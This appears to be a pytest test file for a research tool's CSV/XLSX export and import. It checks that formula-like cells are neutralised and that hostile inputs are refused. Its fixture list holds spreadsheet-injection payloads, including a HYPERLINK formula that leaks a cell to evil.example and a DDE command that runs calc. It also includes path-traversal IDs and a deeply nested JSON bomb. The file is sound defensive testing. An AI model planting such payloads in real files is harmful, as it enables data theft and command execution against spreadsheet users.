"""Every CSV and XLSX the product writes is safe to open in a spreadsheet: a cell that starts
like a formula (=, +, -, @, tab, CR) gets an apostrophe in front, plain numbers stay numbers,
and an export read back by the importers gives the same records."""

import csv
import json

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from conftest import registry_row, write_registry
from lowpolitics.analysis.qda_queries import export_table
from lowpolitics.framework.cells import neutralise, restore

EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_known_answers():
    for value in EVIL:
        assert neutralise(value) == "'" + value and restore(neutralise(value)) == value
    for value in ("-5", "+3.5", "12", "Batken", "", "'quoted'", "a=b"):
        assert neutralise(value) == value
    assert neutralise(7) == 7 and neutralise(None) is None


@given(st.text(max_size=30))
def test_restore_undoes_neutralise(value):
    assert restore(neutralise(value)) == value or value.startswith("'")


def test_query_export_csv_and_xlsx(tmp_path):
    rows = [{"segment": v, "n": 1} for v in EVIL]
    with export_table(rows, tmp_path / "q.csv").open(encoding="utf-8", newline="") as handle:
        assert [r["segment"] for r in csv.DictReader(handle)] == ["'" + v for v in EVIL]
    sheet = load_workbook(export_table(rows, tmp_path / "q.xlsx")).active
    cells = [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(c, str) and c.startswith("'") for c in cells)
    assert sheet.cell(2, 1).data_type == "s"  # text, not a formula


def test_registry_export_is_safe_and_imports_back(cli, tmp_path):
    db = f"sqlite:///{tmp_path / 'a.db'}"
    assert cli("--db", db, "init").code == 0
    source = tmp_path / "registry.csv"
    write_registry(
        source,
        [
            registry_row(
                id="evil-1", date="2023-05", title=EVIL[0], mechanism="societal", status="held",
                host_country="KG", partner_country="TJ", source_url="https://example.org/a",
                notes="=1+1",
            )
        ],
    )  # fmt: skip
    assert cli("--db", db, "import", "registry", source).code == 0
    out = tmp_path / "out"
    assert cli("--db", db, "export", "csv", out).code == 0
    with (out / "registry.csv").open(encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["title"] == "'" + EVIL[0] and row["notes"] == "'=1+1"
    again = cli("--db", db, "import", "registry", out / "registry.csv")
    assert "0 added, 0 updated, 1 unchanged" in again.out  # the apostrophe is read away
    shown = json.loads(cli("--db", db, "show", "activity", "evil-1", "--format", "json").out)
    assert shown["title"] == EVIL[0]
    listed = cli("--db", db, "list", "activities", "--format", "csv").out
    assert "'=HYPERLINK" in listed


def test_hostile_files_get_a_message_not_a_traceback(cli, tmp_path):
    db = f"sqlite:///{tmp_path / 'h.db'}"
    assert cli("--db", db, "init").code == 0
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    result = cli("--db", db, "import", "registry", deep)
    assert result.code == 2 and "nested thousands deep" in result.err
    assert "empty" not in result.err and "Traceback" not in result.err
    big = tmp_path / "big.csv"
    write_registry(
        big,
        [
            registry_row(
                id="x-1", date="2023-05", title="T", mechanism="societal", status="held",
                host_country="KG", partner_country="TJ", source_url="https://e.org",
                participants_total="3000000000",
            )
        ],
    )  # fmt: skip
    result = cli("--db", db, "import", "registry", big)
    assert result.code == 2 and "participants_total" in result.err and "2,147,483,647" in result.err


def _one(**values):
    base = dict(
        id="x-1", date="2023-05", title="T", mechanism="societal", status="held",
        host_country="KG", partner_country="TJ", source_url="https://e.org",
    )  # fmt: skip
    return registry_row(**{**base, **values})


def test_ids_that_break_addressing_are_refused(cli, tmp_path):
    db = f"sqlite:///{tmp_path / 'i.db'}"
    assert cli("--db", db, "init").code == 0
    for bad in ("a/b", "../x", "=cmd|x", "two words"):
        path = write_registry(tmp_path / "r.csv", [_one(id=bad)])
        result = cli("--db", db, "import", "registry", path)
        assert result.code == 2 and "column 'id'" in result.err and "letters, digits" in result.err
    ok = write_registry(tmp_path / "ok.csv", [_one(id="kgtj-a-0042"), _one(id="Ош_2023:1")])
    assert cli("--db", db, "import", "registry", ok).code == 0


def test_double_bom_formula_cell_and_list_order(cli, tmp_path):
    from openpyxl import Workbook

    from lowpolitics.ingest.registry import REGISTRY_COLUMNS

    db = f"sqlite:///{tmp_path / 'b.db'}"
    assert cli("--db", db, "init").code == 0
    path = write_registry(
        tmp_path / "r.csv", [_one(mechanisms_secondary="education_youth;discursive")]
    )
    path.write_bytes("\ufeff".encode() + path.read_bytes())  # saved twice with a BOM
    assert cli("--db", db, "import", "registry", path).code == 0
    reordered = write_registry(
        tmp_path / "r2.csv", [_one(mechanisms_secondary="discursive;education_youth")]
    )
    assert "0 added, 0 updated, 1 unchanged" in cli("--db", db, "import", "registry", reordered).out
    book = Workbook()
    sheet = book.active
    sheet.append(list(REGISTRY_COLUMNS))
    row = [_one(id="x-2")[c] for c in REGISTRY_COLUMNS]
    row[list(REGISTRY_COLUMNS).index("title")] = '=CONCAT("a","b")'
    sheet.append(row)
    book.save(tmp_path / "f.xlsx")
    result = cli("--db", db, "import", "registry", tmp_path / "f.xlsx")
    assert (
        result.code == 2
        and "line 2, column 'title'" in result.err
        and "not a formula" in result.err
    )


def test_a_document_too_long_is_refused_by_the_api(web, monkeypatch):
    monkeypatch.setenv("LOWPOLITICS_MAX_DOCUMENT_CHARS", "1000")
    client = web.client()
    body = {"title": "Long", "text": "Баткен. " * 500, "language": "ru"}
    refused = client.post("/api/v1/documents", json=body, headers=web.bearer("editor"))
    assert refused.status_code == 422, refused.text
    (field,) = refused.json()["error"]["fields"]
    assert field["field"] == "text" and "at most 1,000 characters" in field["expected"]


def test_every_write_path_has_a_size_limit(web, monkeypatch):
    monkeypatch.setenv("LOWPOLITICS_MAX_REQUEST_MB", "1")
    client = web.client()
    huge = {"title": "Huge", "text": "x" * (2 * 2**20)}
    refused = client.post("/api/v1/documents", json=huge, headers=web.bearer("editor"))
    assert refused.status_code == 413 and "larger than 1 MB" in refused.json()["error"]["message"]
